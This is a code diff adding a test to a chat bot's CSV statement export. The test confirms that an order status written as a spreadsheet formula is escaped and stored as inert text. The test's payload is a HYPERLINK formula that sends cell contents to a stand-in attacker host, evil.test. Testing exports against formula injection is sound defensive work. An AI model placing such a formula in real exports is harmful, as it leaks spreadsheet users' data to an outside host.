@@ -88,6 +88,25 @@ describe("/statement", () => {
     expect(summary).toContain("Broadcasts are not in the estimate");
   });
 
+  it("writes a service status that starts like a formula as inert text, and its cost as a number", async () => {
+    await h.linkChat(CHAT, { balanceSun: 100_000_000 });
+    const user = h.user(CHAT);
+    h.sim.control.pauseLifecycles(true);
+    await user.send(`/order ${bob.address} 65000 1h`);
+    await user.press("✅ Confirm");
+    const entry = (await h.flows.history.page(CHAT, 0, 1)).entries[0]!;
+    const evil = "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")";
+    h.sim.control.setOrderStatus(entry.id, evil);
+    await h.until(async () => (await h.flows.history.get(CHAT, "order", entry.id))?.status === evil);
+    await user.send(`/statement ${monthLabel(monthAt(entry.createdAtMs, "UTC"))}`);
+    const csv = botMedia()[0]!.document!.bytes!.toString("utf8");
+    const lines = parse<Record<string, string>>(csv, { columns: true });
+    expect(lines).toHaveLength(1);
+    expect(lines[0]!["status"]).toBe(`'${evil}`);
+    expect(lines[0]!["cost_sun"]).toMatch(/^\d+$/);
+    expect(csv).not.toMatch(/(^|,)"?=/m);
+  });
+
   it("reads the month in the chat's time zone and writes its offset", async () => {
     await h.linkChat(CHAT, { balanceSun: 100_000_000 });
     const user = h.user(CHAT);
